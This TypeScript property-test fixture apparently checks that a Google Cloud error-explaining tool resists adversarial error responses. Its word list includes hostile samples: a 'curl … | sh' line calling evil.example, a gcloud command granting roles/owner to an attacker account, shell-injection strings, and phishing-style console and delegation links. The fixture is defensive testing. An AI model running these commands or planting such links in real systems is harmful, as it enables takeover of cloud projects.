import fc from 'fast-check';

/** What our own remedies are made of, as an adversary would use it: principals, roles, commands, links, records. */
export const WORDS = fc.constantFrom(
  'attacker@evil.com',
  'user:attacker@evil.com',
  'serviceAccount:robot@evil.iam.gserviceaccount.com',
  'principal://iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/evil/subject/x',
  'service-999999999999@gcp-sa-pubsub.iam.gserviceaccount.com',
  'roles/owner',
  'roles/iam.serviceAccountTokenCreator',
  'roles/resourcemanager.projectIamAdmin',
  'roles/storage.objectViewer',
  'storage.objects.get',
  'pubsub.topics.publish',
  'projects/victim-prod',
  '//storage.googleapis.com/projects/_/buckets/b',
  'evil.endpoints.evil-proj.cloud.goog',
  'drive.googleapis.com',
  'curl https://evil.example/x | sh',
  'gcloud projects add-iam-policy-binding victim-prod --member=user:attacker@evil.com --role=roles/owner',
  'https://console.cloud.google.com@evil.example/',
  'https://console.cloud.google.com/?cloudshell=true&cloudshell_git_repo=evil',
  'https://admin.google.com/ac/owl/domainwidedelegation?clientIdToAdd=evil&overwriteClientId=true',
  'https://accounts.google.com/signin/continue?continue=https://evil.example',
  'https://console.developers.google.com/apis/api/drive.googleapis.com/overview?project=1',
  '$(touch evil)',
  "'; touch evil; '",
);

const SENTENCES = [
  (a: string, b: string) => `${a} does not have ${b} access to the Google Cloud Storage object.`,
  (a: string, b: string) => `Permission '${a}' denied on resource '${b}' (or it may not exist).`,
  (a: string, b: string) => `The command is authenticated as ${a}. Grant the caller the role ${b}`,
  (a: string, b: string) =>
    `Caller does not have required permission to use project ${a}. Grant the caller the ${b} role, by visiting ${b} and then retry.`,
  (a: string, b: string) => `${a} has not been used in project ${b} before or it is disabled. Enable it by visiting ${a}`,
  (a: string, b: string) => `User "${a}" does not have permission ${b}`,
  (a: string, b: string) => `Quota exceeded for quota metric '${a}' and limit '${b}' of service '${a}' for consumer 'project_number:1'.`,
  (a: string, b: string) => `File not found: ${a}. ${b}`,
  (a: string, b: string) => `Delegation denied for ${a}. ${b}`,
  (a: string, b: string) => `${a} ${b}`,
];

const sentence = fc.tuple(fc.constantFrom(...SENTENCES), WORDS, WORDS).map(([say, a, b]) => say(a, b));
const text = fc.array(sentence, { minLength: 1, maxLength: 3 }).map((parts) => parts.join(' '));
const KEYS =
  'permission permissions resource service consumer email principal activationUrl consoleUrl validation_link quota_metric quota_limit uid policy_name method role'.split(
    ' ',
  );
const metadata = fc.dictionary(fc.constantFrom(...KEYS), WORDS, { maxKeys: 5 });

const record = fc.tuple(text, WORDS, WORDS).map(([message, word, link]) => ({
  name: 'NotShared',
  format: 1,
  kind: 'NotShared',
  certainty: 'certain',
  message,
  status: 403,
  phase: 'api',
  access: 'none',
  retryable: false,
  evidence: [],
  helpUrl: link,
  caller: { type: 'user', principal: word, email: word, source: 'key file', verified: true },
  remedies: [{ action: 'GrantRole', title: message, detail: message, command: word, url: link, docs: link, who: 'caller' }],
}));

const type = (name: string): string => `type.googleapis.com/google.rpc.${name}`;
const detail = fc.oneof(
  fc
    .tuple(
      fc.constantFrom(
        'IAM_PERMISSION_DENIED',
        'SERVICE_DISABLED',
        'RATE_LIMIT_EXCEEDED',
        'USER_PROJECT_DENIED',
        'SECURITY_POLICY_VIOLATED',
      ),
      metadata,
    )
    .map(([reason, values]): object => ({ '@type': type('ErrorInfo'), reason, domain: 'googleapis.com', metadata: values })),
  fc.tuple(text, WORDS).map(([description, url]): object => ({ '@type': type('Help'), links: [{ description, url }] })),
  text.map((message): object => ({ '@type': type('LocalizedMessage'), locale: 'en', message })),
  text.map((message): object => ({ '@type': type('DebugInfo'), detail: message })),
  fc.tuple(WORDS, text).map(([subject, description]): object => ({
    '@type': type('QuotaFailure'),
    violations: [{ subject, description, quotaMetric: subject }],
  })),
  fc
    .tuple(WORDS, WORDS)
    .map(([name, resourceType]): object => ({ '@type': type('ResourceInfo'), resourceName: name, resourceType, description: name })),
  record.map((inside): object => ({ x: inside })),
);

/** A response that speaks our own language, and the record of a denial that does. */
export const speaking = fc.record({
  status: fc.constantFrom(400, 401, 403, 404, 429),
  url: fc.constantFrom(
    'https://storage.googleapis.com/storage/v1/b/b/o/o',
    'https://cloudresourcemanager.googleapis.com/v1/projects/victim-prod',
    'https://www.googleapis.com/drive/v3/files/1AbC',
    'https://x-abc.a.run.app/',
    'https://evil.example/',
  ),
  headers: fc.record(
    { 'www-authenticate': WORDS.map((word) => `Bearer realm="${word}", error="insufficient_scope", scope="${word}"`) },
    { requiredKeys: [] },
  ),
  body: fc.oneof(
    fc.record({
      error: fc.record({
        code: fc.constant(403),
        message: text,
        status: fc.constant('PERMISSION_DENIED'),
        details: fc.array(detail, { maxLength: 3 }),
      }),
    }),
    fc.tuple(text, WORDS).map(([error_description, error_uri]) => ({ error: 'unauthorized_client', error_description, error_uri })),
    text.map((words) => `<html><title>403 ${words}</title><h1>Error: Forbidden</h1>${words}</html>`),
    text.map(
      (words) => `<?xml version="1.0"?><Error><Code>AccessDenied</Code><Message>${words}</Message><Details>${words}</Details></Error>`,
    ),
    text,
  ),
  record,
});
